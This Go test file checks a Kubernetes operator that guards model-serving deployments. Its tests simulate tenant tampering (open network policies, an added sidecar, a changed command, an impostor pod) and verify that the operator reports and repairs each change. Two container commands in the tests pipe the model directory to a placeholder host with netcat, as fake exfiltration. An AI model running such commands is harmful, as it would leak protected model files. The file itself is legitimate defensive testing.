package protectedmodel

import (
	"context"
	"fmt"
	"strings"
	"testing"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	networkingv1 "k8s.io/api/networking/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	mlv1alpha1 "github.com/modelguard/modelguard/api/v1alpha1"
	"github.com/modelguard/modelguard/test/builders"
)

// The read-back tests change what is in force behind the operator's back, as
// a tenant with the built-in edit role can, and check that the right
// condition goes False naming the culprit, and that the operator repairs its
// own objects.

// servingModel is a model whose pod runs and whose every condition is True.
func servingModel(t *testing.T, w *builders.ProtectedModelWrapper) (*mlv1alpha1.ProtectedModel, *appsv1.Deployment) {
	t.Helper()
	pm, _ := protectedModel(t, w)
	d := getDeployment(t, pm)
	createServerPod(t, d, pm.Name+"-ok", unsealedPodStatus(0, ""))
	markDeploymentAvailable(t, d)
	waitForCondition(t, pm.Namespace, pm.Name, mlv1alpha1.ConditionReady, metav1.ConditionTrue, mlv1alpha1.ReasonAvailable)
	for _, c := range []struct{ conditionType, reason string }{
		{mlv1alpha1.ConditionNetworkIsolated, mlv1alpha1.ReasonPolicyApplied},
		{mlv1alpha1.ConditionHardened, mlv1alpha1.ReasonRestricted},
	} {
		waitForCondition(t, pm.Namespace, pm.Name, c.conditionType, metav1.ConditionTrue, c.reason)
	}
	return pm, d
}

// waitForEvent waits for an event on the model whose note contains every
// part, and returns the note: a condition that the operator repairs within
// one reconcile may be False only briefly, but its event stays.
func waitForEvent(t *testing.T, pm *mlv1alpha1.ProtectedModel, reason string, parts ...string) string {
	t.Helper()
	var note string
	eventually(t, fmt.Sprintf("an event %s mentioning %q", reason, parts), func() error {
		events := &eventsv1.EventList{}
		if err := k8s.List(context.Background(), events, client.InNamespace(pm.Namespace)); err != nil {
			return err
		}
		var seen []string
		for _, ev := range events.Items {
			if ev.Regarding.Name != pm.Name || ev.Reason != reason {
				continue
			}
			seen = append(seen, ev.Note)
			all := true
			for _, p := range parts {
				all = all && strings.Contains(ev.Note, p)
			}
			if all {
				note = ev.Note
				return nil
			}
		}
		return fmt.Errorf("events with reason %s: %q", reason, seen)
	})
	return note
}

func TestForeignAllowAllPolicyBreaksIsolation(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	pm, _ := servingModel(t, builders.MakeProtectedModel("foreign", ns).AllowClientPods(map[string]string{"app": "web"}))

	// A tenant's allow-all: every pod of the namespace, from anywhere.
	allowAll := &networkingv1.NetworkPolicy{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "allow-all"},
		Spec: networkingv1.NetworkPolicySpec{
			PodSelector: metav1.LabelSelector{},
			PolicyTypes: []networkingv1.PolicyType{networkingv1.PolicyTypeIngress},
			Ingress:     []networkingv1.NetworkPolicyIngressRule{{}},
		},
	}
	if err := k8s.Create(ctx, allowAll); err != nil {
		t.Fatalf("creating the allow-all policy: %v", err)
	}
	pm = waitForCondition(t, ns, pm.Name, mlv1alpha1.ConditionNetworkIsolated, metav1.ConditionFalse, mlv1alpha1.ReasonForeignPolicyAllows)
	if got := findCondition(pm, mlv1alpha1.ConditionNetworkIsolated).Message; !strings.Contains(got, "allow-all (ingress)") {
		t.Errorf("NetworkIsolated message %q does not name the allow-all policy", got)
	}
	if pm.Status.Phase != mlv1alpha1.ModelPhaseDegraded {
		t.Errorf("phase = %s, want Degraded while another policy opens the pods", pm.Status.Phase)
	}

	// A policy that selects other pods, or denies only, changes nothing.
	other := &networkingv1.NetworkPolicy{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "web-only"},
		Spec: networkingv1.NetworkPolicySpec{
			PodSelector: metav1.LabelSelector{MatchLabels: map[string]string{"app": "web"}},
			PolicyTypes: []networkingv1.PolicyType{networkingv1.PolicyTypeIngress},
			Ingress:     []networkingv1.NetworkPolicyIngressRule{{}},
		},
	}
	denyAll := &networkingv1.NetworkPolicy{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "deny-all"},
		Spec: networkingv1.NetworkPolicySpec{
			PolicyTypes: []networkingv1.PolicyType{networkingv1.PolicyTypeIngress, networkingv1.PolicyTypeEgress},
		},
	}
	for _, p := range []*networkingv1.NetworkPolicy{other, denyAll} {
		if err := k8s.Create(ctx, p); err != nil {
			t.Fatalf("creating policy %s: %v", p.Name, err)
		}
	}
	if err := k8s.Delete(ctx, allowAll); err != nil {
		t.Fatalf("deleting the allow-all policy: %v", err)
	}
	waitForCondition(t, ns, pm.Name, mlv1alpha1.ConditionNetworkIsolated, metav1.ConditionTrue, mlv1alpha1.ReasonPolicyApplied)
}

func TestLivePolicyThatMissesThePodsIsRepaired(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	pm, _ := servingModel(t, builders.MakeProtectedModel("unselected", ns))

	// One more label in the selector: the policy selects no pod any more,
	// so the model's pods are open. The API server accepts it.
	policy := &networkingv1.NetworkPolicy{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: pm.Name}}
	update(t, policy, func(p *networkingv1.NetworkPolicy) {
		p.Spec.PodSelector.MatchLabels["tampered"] = "yes"
	}, client.FieldOwner("kubectl-edit"))
	waitForEvent(t, pm, mlv1alpha1.ReasonPolicyNotApplied, "NetworkIsolated=False", "NetworkPolicy "+pm.Name+" does not select the server pods")
	eventually(t, "the operator removes the tenant's selector label", func() error {
		if err := k8s.Get(ctx, client.ObjectKeyFromObject(policy), policy); err != nil {
			return err
		}
		if _, ok := policy.Spec.PodSelector.MatchLabels["tampered"]; ok {
			return fmt.Errorf("podSelector is still %v", policy.Spec.PodSelector.MatchLabels)
		}
		return nil
	})
	waitForCondition(t, ns, pm.Name, mlv1alpha1.ConditionNetworkIsolated, metav1.ConditionTrue, mlv1alpha1.ReasonPolicyApplied)
}

// editServerTemplate changes the Deployment's pod template as a tenant with
// edit would, and returns the edited pod spec.
func editServerTemplate(t *testing.T, pm *mlv1alpha1.ProtectedModel, edit func(*corev1.PodSpec)) corev1.PodSpec {
	t.Helper()
	d := getDeployment(t, pm)
	edit(&d.Spec.Template.Spec)
	if err := k8s.Update(context.Background(), d, client.FieldOwner("kubectl-edit")); err != nil {
		t.Fatalf("editing the Deployment: %v", err)
	}
	return d.Spec.Template.Spec
}

func TestTenantSidecarIsRemovedAndReported(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	pm, d := servingModel(t, builders.MakeProtectedModel("sidecar", ns))

	edited := editServerTemplate(t, pm, func(spec *corev1.PodSpec) {
		spec.Containers = append(spec.Containers, corev1.Container{
			Name: "sidecar", Image: "registry.example.com/tenant/exfiltrate:1",
			Command:      []string{"sh", "-c", "tar c /models | nc 203.0.113.9 443"},
			VolumeMounts: []corev1.VolumeMount{{Name: "model", MountPath: "/models", ReadOnly: true}},
			Env:          []corev1.EnvVar{{Name: "TARGET", Value: "203.0.113.9"}},
		})
		spec.Containers[0].Env = append(spec.Containers[0].Env, corev1.EnvVar{Name: "DEBUG_DUMP", Value: "1"})
		spec.Volumes = append(spec.Volumes, corev1.Volume{Name: "scratch", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}})
	})
	// The ReplicaSet controller would start a pod from the edited template
	// before the operator's repair rolls it away.
	createPod(t, d, pm.Name+"-attacker", edited, unsealedPodStatus(0, ""))

	pm = waitForCondition(t, ns, pm.Name, mlv1alpha1.ConditionHardened, metav1.ConditionFalse, mlv1alpha1.ReasonPodSpecDrift)
	message := findCondition(pm, mlv1alpha1.ConditionHardened).Message
	for _, part := range []string{`pod sidecar-attacker: container "sidecar" added`, `container "server": env differs`, `volume "scratch" added`} {
		if !strings.Contains(message, part) {
			t.Errorf("Hardened message %q does not say %q", message, part)
		}
	}
	eventually(t, "the operator removes the sidecar, the env var and the volume from the Deployment", func() error {
		d := getDeployment(t, pm)
		spec := d.Spec.Template.Spec
		if len(spec.Containers) != 1 || len(spec.Containers[0].Env) != 0 {
			return fmt.Errorf("containers %d, server env %v", len(spec.Containers), spec.Containers[0].Env)
		}
		for _, v := range spec.Volumes {
			if v.Name == "scratch" {
				return fmt.Errorf("volume scratch still there")
			}
		}
		return nil
	})
	// The repaired template rolls the pods: the attacker's pod goes.
	if err := k8s.Delete(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: pm.Name + "-attacker"}}); err != nil {
		t.Fatal(err)
	}
	waitForCondition(t, ns, pm.Name, mlv1alpha1.ConditionHardened, metav1.ConditionTrue, mlv1alpha1.ReasonRestricted)
}

func TestChangedCommandIsRevertedAndReported(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	pm, d := servingModel(t, builders.MakeProtectedModel("command", ns))

	edited := editServerTemplate(t, pm, func(spec *corev1.PodSpec) {
		spec.Containers[0].Command = []string{"sh", "-c", "cat /models/* | nc 203.0.113.9 443"}
	})
	createPod(t, d, pm.Name+"-changed", edited, unsealedPodStatus(0, ""))

	pm = waitForCondition(t, ns, pm.Name, mlv1alpha1.ConditionHardened, metav1.ConditionFalse, mlv1alpha1.ReasonPodSpecDrift)
	if got := findCondition(pm, mlv1alpha1.ConditionHardened).Message; !strings.Contains(got, `pod command-changed: container "server": command differs`) {
		t.Errorf("Hardened message %q does not name the changed command", got)
	}
	eventually(t, "the operator reverts the command", func() error {
		if c := getDeployment(t, pm).Spec.Template.Spec.Containers[0].Command; len(c) != 0 {
			return fmt.Errorf("command is %v", c)
		}
		return nil
	})
	if err := k8s.Delete(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: pm.Name + "-changed"}}); err != nil {
		t.Fatal(err)
	}
	waitForCondition(t, ns, pm.Name, mlv1alpha1.ConditionHardened, metav1.ConditionTrue, mlv1alpha1.ReasonRestricted)
}

func TestImpostorPodIsNotCounted(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	pm, d := servingModel(t, builders.MakeProtectedModel("impostor", ns).GPUs(1))
	waitForCondition(t, ns, pm.Name, mlv1alpha1.ConditionGPUScheduled, metav1.ConditionTrue, mlv1alpha1.ReasonScheduled)

	// A pod with the model's labels that no ReplicaSet of the model made: it
	// asks for no GPU and cannot be scheduled.
	impostor := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "impostor", Labels: d.Spec.Template.Labels},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "server", Image: "registry.example.com/tenant/fake:1"}},
			AutomountServiceAccountToken: ptr.To(false)},
	}
	if err := k8s.Create(ctx, impostor); err != nil {
		t.Fatalf("creating the impostor: %v", err)
	}
	impostor.Status = corev1.PodStatus{Phase: corev1.PodPending, Conditions: []corev1.PodCondition{{Type: corev1.PodScheduled,
		Status: corev1.ConditionFalse, Reason: corev1.PodReasonUnschedulable, Message: "0/1 nodes are available: impostor"}}}
	if err := k8s.Status().Update(ctx, impostor); err != nil {
		t.Fatal(err)
	}

	pm = waitForCondition(t, ns, pm.Name, mlv1alpha1.ConditionOwnershipRecorded, metav1.ConditionFalse, mlv1alpha1.ReasonProgressing)
	if got := findCondition(pm, mlv1alpha1.ConditionOwnershipRecorded).Message; !strings.Contains(got, "*v1.Pod impostor") {
		t.Errorf("OwnershipRecorded message %q does not name the impostor", got)
	}
	gpu := meta.FindStatusCondition(pm.Status.Conditions, mlv1alpha1.ConditionGPUScheduled)
	if gpu.Status != metav1.ConditionTrue || gpu.Message != "1 pod(s) scheduled with 1 GPU(s) each" {
		t.Errorf("GPUScheduled = %s %q: the impostor was counted", gpu.Status, gpu.Message)
	}
	if h := meta.FindStatusCondition(pm.Status.Conditions, mlv1alpha1.ConditionHardened); h.Status != metav1.ConditionTrue {
		t.Errorf("Hardened = %s %q: the impostor was compared as a model pod", h.Status, h.Message)
	}
}
